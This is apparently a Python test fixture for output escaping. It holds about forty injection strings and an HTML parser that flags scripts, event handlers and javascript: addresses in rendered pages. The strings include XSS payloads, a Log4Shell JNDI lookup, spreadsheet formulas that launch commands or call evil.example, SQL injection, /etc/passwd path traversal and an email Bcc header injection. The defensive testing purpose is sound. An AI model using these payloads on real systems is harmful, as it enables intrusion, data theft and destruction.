"""Forty texts that mean something somewhere else: to a browser, a spreadsheet, a mail, a typesetter, a log, an eye."""

from __future__ import annotations

from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "<!--<script>-->", "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "{{7*7}} {% include 'x' %}", "${jndi:ldap://evil.example/a}", "%(email)s %s %n", "{0.__class__}",
    "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "＝1+1",
    "'=1+1", '=HYPERLINK("http://evil.example")', '=IMPORTXML("http://evil.example","//a")',
    "#set page(width: 20pt); #sys.inputs",
    '#read("/etc/passwd")', "$ x $ *굵게* _기울임_ `raw`", "// 지운 줄 /* 설명 */",
    "\\u{41} <label> @reference", "'; DROP TABLE person;--", '" OR 1=1 --', "../../etc/passwd",
    "BEGIN:VEVENT;SUMMARY:x,y\\n", "a:b;c,d", "Ａｄｍｉｎ", "e\u0301\u0301\u0301\u0301\u0301",
)  # fmt: skip
"""Texts that people may write, and that are to stand everywhere just as they wrote them."""

BREAKING = ("a\r\nBcc: evil@example.com", "a\x00b", "a\u202eb\u2066c", "a\x1b[31mb\x07")
"""Texts that hold what nobody sees: they end up without it, or are refused."""


class Seen(HTMLParser):
    """What a browser would act on in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.acts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note scripts without a file, handlers, foreign frames and addresses that are scripts."""
        given = dict(attrs)
        if (tag == "script" and "src" not in given) or tag in {"iframe", "base", "object", "embed"}:
            self.acts.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith(("javascript:", "//evil")):
                self.acts.append(f"{tag} {name}")


def what_acts_in(page: str) -> list[str]:
    """Return what of a page acts that we did not put there: our own pages have no script in them, and no handler."""
    seen = Seen()
    seen.feed(page)
    return seen.acts
